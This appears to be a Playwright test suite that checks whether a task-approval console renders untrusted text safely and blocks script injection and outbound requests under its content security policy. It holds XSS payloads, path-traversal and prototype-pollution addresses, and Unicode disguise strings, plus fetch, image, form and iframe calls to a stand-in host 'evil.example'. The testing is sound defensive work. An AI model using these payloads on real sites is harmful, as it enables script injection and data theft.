"""Texts that agents, databases and token issuers choose: shown as text, whole, and never as anything else."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.support import console_answers as answers
from tests.support.browsing import go, picture, sign_in

RUN = "window.ran.push(1)"
MARKUP = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><style>*{{display:none}}</style>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input name=token><button>Approve</button></form>",
    f'" autofocus onfocus={RUN} x="',
    "{{constructor.constructor('window.ran.push(1)')()}} ${window.ran.push(1)}",
    "--> ]]> */ ' \" ` </title></textarea></style>",
)
HOSTILE = {
    "markup": " ".join(MARKUP),
    "address": f"javascript:{RUN}",
    "prototype": "__proto__",
    "constructor": "constructor",
    "null": "null",
    "turned around": "harmless\u202egpj.exe\u2066 -- \u2069",
    "unseen": "ad\u200bmin\u00ad\u2060\ufeff\U000e0041",
    "NUL and escape": "a\x00b\x1b[31mc\x9bd",
    "half a pair": "a\ud800b",
    "long word": "x" * 10_000,
    "stacked": "z" + "\u0351" * 500,
    "lines": "\n".join(["line"] * 2_000),
}


def poisoned(value: Any, text: str, keep: Callable[[str], bool]) -> Any:
    """The value with the hostile text for every text in it, but what the page must read to work at all."""
    if isinstance(value, dict):
        return {name: one if keep(name) else poisoned(one, text, keep) for name, one in value.items()} | (
            {} if "attributes" not in value else {"attributes": {text: text}}
        )
    if isinstance(value, list):
        return [poisoned(one, text, keep) for one in value]
    return text if isinstance(value, str) else value


def is_needed(name: str) -> bool:
    return name in {"task_id", "type", "kind", "id", "time", "next", "checkpoint", "keys"}


def poison(site: Any, text: str) -> None:
    """Every answer that a view asks for, with the text in each of its fields."""

    def all_of(value: Any) -> Any:
        return poisoned(value, text, is_needed)

    def tasks(asked: Any) -> tuple[int, Any]:
        waiting = (
            [answers.task(), answers.migration()] if asked.query["state"] == "pending_approval" else [answers.live()]
        )
        return 200, all_of({"tasks": waiting, "next": None})

    pending = all_of(answers.task()) | {"state": "pending_approval"}
    site.script |= {
        ("GET", "/v1/principal"): (200, answers.principal(principal=text, on_behalf_of=text, groups=[text])),
        ("GET", "/v1/tasks"): tasks,
        ("GET", f"/v1/tasks/{answers.TASK}"): (200, pending),
        ("GET", f"/v1/tasks/{answers.MIGRATION}"): (200, all_of(answers.migration()) | {"state": "pending_approval"}),
        ("POST", f"/v1/tasks/{answers.TASK}/approval"): (
            403,
            {"code": text, "detail": text, "refusals": [{"what": text, "code": text, "reason": text}]},
        ),
        ("POST", "/v1/revocations"): (200, all_of(answers.revoked())),
        ("GET", "/v1/records"): (200, all_of(answers.found(answers.life()))),
        ("GET", "/v1/log"): (200, all_of(answers.log())),
    }


VIEWS = (
    ("#/pending", "Waiting for approval"),
    (f"#/pending/{answers.MIGRATION}", "Waiting for approval"),
    ("#/live", "Live tasks"),
    (f"#/task/{answers.TASK}", re.compile("Timeline of task")),
    ("#/search?kind=statement", "Search the records"),
    ("#/log", "The log of evidence"),
)
OURS = {
    *("a", "article", "bdi", "blockquote", "body", "br", "button", "caption", "code", "dd", "details", "dialog", "div"),
    *("dl", "dt", "footer", "form", "h1", "h2", "h3", "h4", "head", "header", "html", "input", "kbd", "label", "li"),
    *("link", "main", "meta", "meter", "nav", "noscript", "ol", "option", "output", "p", "path", "pre", "script"),
    *("section", "select", "span", "strong", "summary", "svg", "table", "tbody", "td", "textarea", "th", "thead"),
    *("time", "title", "tr", "ul"),
}
INVENTORY = """() => {
  const all = [...document.querySelectorAll('*')];
  const addresses = all.flatMap((one) => ['href', 'src', 'action', 'formaction'].map((name) => one.getAttribute(name)));
  return {
    names: [...new Set(all.map((one) => one.localName))],
    scripts: [...document.scripts].map((one) => one.getAttribute('src')),
    handlers: all.flatMap((one) => one.getAttributeNames()).filter((name) => /^on/i.test(name)),
    links: addresses.filter((one) => one !== null && !/^(#|console\\/)/.test(one)),
    width: document.documentElement.scrollWidth,
  };
}"""


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_text_is_more_than_text_and_none_hides_a_part_of_itself(text, eyes, site):
    poison(site, text)
    sign_in(eyes.page, site.url)
    shown = eyes.page.locator("blockquote.own-words").evaluate("(one) => one.textContent")
    assert re.sub(r"U\+([0-9A-F]{4,6})", lambda found: chr(int(found[1], 16)), shown) == text
    for view, heading in VIEWS:
        go(eyes.page, view, heading)
        found = eyes.page.evaluate(INVENTORY)
        assert set(found["names"]) <= OURS, view
        assert found["scripts"] == ["console/main.js"], view
        assert (found["handlers"], found["links"]) == ([], []), view
        assert found["width"] <= 1280, view  # the page itself is never pushed sideways

    hosts = {re.match(r"\w+://[^/]+", url)[0] for url in eyes.requests}
    assert hosts == {site.url, site.provider.url}


@pytest.mark.parametrize(
    "text", [HOSTILE["markup"], HOSTILE["long word"], HOSTILE["lines"]], ids=["markup", "word", "lines"]
)
def test_a_dialog_keeps_its_buttons_in_view_whatever_it_is_about(text, eyes, site):
    poison(site, text)
    sign_in(eyes.page, site.url)
    eyes.page.keyboard.press("a")
    eyes.page.get_by_label("Why").fill("as agreed")
    eyes.page.keyboard.press("Control+Enter")

    dialog = eyes.page.get_by_role("dialog")
    expect(dialog.get_by_role("alert")).not_to_be_empty()
    expect(dialog.get_by_role("button", name="Approve")).to_be_in_viewport()
    assert set(eyes.page.evaluate(INVENTORY)["names"]) <= OURS


def test_a_sign_that_cannot_be_seen_is_shown(eyes, site):
    poison(site, HOSTILE["turned around"])
    sign_in(eyes.page, site.url)

    signs = eyes.page.locator("blockquote.own-words .unseen-sign").all_inner_texts()
    assert signs == ["U+202E", "U+2066", "U+2069"]
    picture(eyes.page, "hostile-turned-around")


def test_the_error_of_a_provider_is_text(eyes, site):
    site.provider.redirect = {"code": None, "error": "x", "error_description": MARKUP[1]}
    eyes.page.goto(f"{site.url}/console")
    eyes.page.get_by_role("button", name="Sign in with").click()

    expect(eyes.page.locator("#banner")).to_contain_text(MARKUP[1])
    assert set(eyes.page.evaluate(INVENTORY)["names"]) <= OURS


ADDRESSES = (
    "#/task/<img src=x onerror=window.ran.push(1)>",
    "#/task/%3Cscript%3Ewindow.ran.push(1)%3C/script%3E",
    "#/task/..%2F..%2Fv1%2Frevocations",
    "#/pending/../../v1/log?x=",
    "#/search?principal=<svg onload=window.ran.push(1)>&kind=__proto__",
    "#/__proto__/constructor",
    "#/%E0%A4%A",
    "#javascript:window.ran.push(1)",
    "#" + "/" * 3000,
)


@pytest.mark.parametrize("address", ADDRESSES, ids=[f"address {number}" for number in range(len(ADDRESSES))])
def test_an_address_that_somebody_was_sent_asks_for_nothing_but_what_it_names(address, page, eyes, site):
    asked = len(site.asked)
    page.evaluate("(hash) => { location.hash = hash; }", address)
    expect(page.locator("main")).not_to_have_attribute("aria-busy", "true")
    expect(page.get_by_role("heading", level=1)).to_be_visible()

    assert set(page.evaluate(INVENTORY)["names"]) <= OURS
    for one in site.asked[asked:]:
        assert one.method == "GET"
        assert re.fullmatch(r"/v1/(tasks|records|log|tasks/[^/]+)", one.path), one.path


MARKUP_INTO_THE_PAGE = {
    "innerHTML": "document.body.innerHTML = '<img src=x onerror=window.ran.push(1)>'",
    "an inline script": "document.head.append(Object.assign(document.createElement('script'), {text: '1'}))",
    "an attribute": "document.body.setAttribute('onclick', 'window.ran.push(1)')",
    "eval": "(0, eval)('window.ran.push(1)')",
    "a policy of its own": "trustedTypes.createPolicy('default', {createHTML: (text) => text})",
}


@pytest.mark.parametrize("way", MARKUP_INTO_THE_PAGE.values(), ids=MARKUP_INTO_THE_PAGE.keys())
def test_the_page_would_not_run_a_script_even_if_a_text_became_markup(way, page, eyes):
    """The second net. In a task of the page's own: a debugger's is not held to the page's policy."""
    eyes.expected = re.compile("CSP|Trusted|Content Security Policy")
    task = f"try {{ {way}; done('done'); }} catch (error) {{ done(error.name); }}"

    assert page.evaluate(f"() => new Promise((done) => setTimeout(() => {{ {task} }}))") != "done"


SENDING = {
    "connect-src": "fetch('https://evil.example/?t').catch(() => undefined)",
    "img-src": "Object.assign(new Image(), {src: 'https://evil.example/i'})",
    "form-action": """const form = Object.assign(document.createElement('form'), {action: 'https://evil.example/'});
      document.body.append(form); form.submit()""",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example'}))",
}


@pytest.mark.parametrize(("directive", "way"), SENDING.items(), ids=SENDING.keys())
def test_the_page_sends_nothing_to_another_host_even_if_a_script_tried(directive, way, page, eyes):
    eyes.expected = re.compile("CSP|Content Security Policy|ERR_BLOCKED")
    with page.expect_console_message(lambda message: message.text.startswith(f"CSP {directive}")):
        page.evaluate(f"() => {{ {way}; }}")


def test_json_with_a_prototype_in_it_changes_no_object(eyes, site):
    site.script["GET", f"/v1/tasks/{answers.TASK}"] = (
        200,
        json.loads(json.dumps(answers.task()).replace('"region"', '"__proto__"')),
    )
    sign_in(eyes.page, site.url)

    expect(eyes.page.locator(".detail")).to_contain_text("__proto__")
    assert eyes.page.evaluate("[Object.keys(Object.prototype), ({}).north]") == [[], None]
